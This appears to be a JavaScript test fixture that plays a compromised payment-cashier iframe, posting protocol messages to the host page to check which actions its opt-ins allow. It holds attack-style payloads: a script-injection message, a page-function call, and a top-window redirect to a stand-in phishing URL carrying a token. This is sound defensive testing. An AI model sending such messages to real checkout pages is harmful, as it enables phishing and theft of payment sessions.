// A compromised (or misconfigured) cashier on the cashier's own origin: served at
// /compromised/paymentiq/cashier and, as the lookup, at /compromised/checkout-client/{version}. It speaks
// the protocol correctly (exact origin, its own window) but tries everything that acts on the host page:
// script set-up, a page-function call and navigation away, then says it is done with CHANGE
// { step: 'attack-done' }. What the host page lets through is what its opt-ins allow.
(function () {
  'use strict';
  var params = new URLSearchParams(location.search);
  var lookup = location.pathname.indexOf('/checkout-client/') !== -1;
  var host = null;
  try {
    host = new URL(params.get('attributes.hostUri') || '');
  } catch {
    host = null;
  }
  if (!host || host.origin === 'null' || window.parent === window) return;
  function post(eventType, payload) {
    window.parent.postMessage(payload === undefined ? { eventType: eventType } : { eventType: eventType, payload: payload }, host.origin);
  }
  var anotherPort = host.protocol + '//' + host.hostname + ':' + (Number(host.port || (host.protocol === 'https:' ? 443 : 80)) + 1) + '/';
  post(lookup ? 'LOOKUP_INIT_LOAD' : 'CASHIER_INIT_LOAD');
  post('SETUP_AUTHORIZE_SCRIPT', {
    provider: 'trustly',
    authorizeScript: "document.documentElement.setAttribute('data-compromised', 'script ran');",
  });
  post('EXECUTE_AUTHORIZE_METHOD', { method: 'piqAuthorize', parameters: { from: 'the compromised cashier' } });
  post('TOP_URL_REPLACE', { url: 'https://evil.example/phish?token=taken-from-the-page' });
  post('TOP_URL_REPLACE', { url: anotherPort });
  post('CHANGE', { step: 'attack-done', from: lookup ? 'lookup' : 'cashier' });
})();
